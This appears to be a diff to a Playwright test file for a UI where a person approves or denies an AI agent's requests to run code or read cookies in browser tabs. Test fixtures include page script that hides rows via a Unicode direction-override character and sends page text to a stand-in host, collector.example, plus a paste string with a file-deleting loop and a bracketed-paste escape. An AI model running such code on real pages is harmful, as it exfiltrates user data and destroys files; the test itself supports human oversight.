@@ -1,4 +1,5 @@
 import type { Browser, Page } from 'playwright-core';
+import type { Approval } from '$ui/protocol/protocol';
 import { backend, openPanel } from './fakes/face';
 import type { FakeBackend } from './fakes/backend';
 
@@ -29,6 +30,35 @@ const live = (page: Page): Promise<void> => page.getByText('Live', { exact: true
 const paste =
   '#!/bin/sh\nset -eu\n\tcd "$HOME"\nfor f in *.log; do\n  rm -- "$f"\ndone\necho \x1b[201~done\n';
 
+const longCode = [
+  "const rows = [...document.querySelectorAll('table tr')];",
+  'for (const row of rows) {',
+  "  if (row.textContent.includes('\u202etotal')) row.remove();",
+  '}',
+  ...Array.from({ length: 24 }, (_, at) => `console.log(${String(at)}, rows.length);`),
+  `fetch('https://collector.example/?d=' + encodeURIComponent(document.body.innerText.slice(0, 4000)))`,
+].join('\n');
+
+/** Something that waits for the person. */
+export function approval(part: Partial<Approval> = {}): Approval {
+  return {
+    id: 'n1',
+    session: 'default',
+    actor: { kind: 'terminal', id: 'k1', name: 'claude in t1' },
+    tab: 't1',
+    url: 'https://example.com/orders?status=open&page=2',
+    origin: 'https://example.com',
+    command: 'eval',
+    args: [{ name: 'code', value: 'document.title' }],
+    kind: 'eval',
+    why: 'run code in the page',
+    site: 'example.com',
+    since: '2026-11-21T09:30:00Z',
+    expires: '2026-11-21T09:35:00Z',
+    ...part,
+  };
+}
+
 /** Puts a text on the clipboard of the page and pastes it into the terminal. */
 export async function pasteInto(page: Page, text: string): Promise<void> {
   await page.evaluate((data) => {
@@ -48,6 +78,41 @@ export const states: State[] = [
       await live(page);
       made.first?.change({ status: 'needs_you', message: 'May I run npm test?' });
       await page.getByText('Needs you').waitFor();
+    },
+  },
+  {
+    name: 'approval',
+    async act(page, made) {
+      await live(page);
+      made.push({ type: 'session', session: { ...made.session(), approvals: [approval()] } });
+      await page.getByRole('button', { name: 'Deny' }).waitFor();
+    },
+  },
+  {
+    name: 'approvals',
+    async act(page, made) {
+      await live(page);
+      made.push({
+        type: 'session',
+        session: {
+          ...made.session(),
+          approvals: [
+            approval({
+              id: 'n2',
+              tab: 't2',
+              origin: 'https://developer.mozilla.org',
+              url: 'https://developer.mozilla.org/en-US/docs/Web/API/WebSocket',
+              site: 'developer.mozilla.org',
+              command: 'cookies',
+              args: [],
+              kind: 'cookies',
+              why: 'see or change cookies and stored values',
+            }),
+            approval({ args: [{ name: 'code', value: longCode }] }),
+          ],
+        },
+      });
+      await page.getByRole('button', { name: 'Deny' }).nth(1).waitFor();
     },
   },
   {
